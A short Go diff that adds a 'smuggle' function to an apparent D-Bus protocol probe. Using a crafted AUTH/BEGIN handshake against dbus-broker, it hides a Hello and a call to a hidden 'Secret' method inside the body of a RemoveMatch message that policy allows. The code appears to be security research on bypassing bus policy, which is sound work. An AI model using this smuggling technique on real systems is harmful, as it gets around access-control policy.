@@ -38,6 +38,17 @@ func begin([]string) error {
 	return nil
 }
 
+// smuggle hides lines and messages in the body of a call that every policy lets through: dbus-broker
+// takes BEGIN and a word for an error, and goes on reading lines.
+func smuggle(words []string) error {
+	id := hex.EncodeToString([]byte(strconv.Itoa(os.Getuid())))
+	secret := call("com.example.Hidden", "Secret")
+	secret.Serial = 2
+	hidden := bus.ToBus("RemoveMatch", 9)
+	hidden.Signature, hidden.Body = "s", "\r\nBEGIN\r\n"+string(bus.ToBus("Hello", 1).Bytes())+string(secret.Bytes())
+	return say([]string{"\x00AUTH EXTERNAL " + id + "\r\nBEGIN" + words[0] + "\r\n" + string(hidden.Bytes())}, time.Second)
+}
+
 // say writes parts and prints how the other side takes them.
 func say(parts []string, patience time.Duration) error {
 	c, err := net.Dial("unix", address())
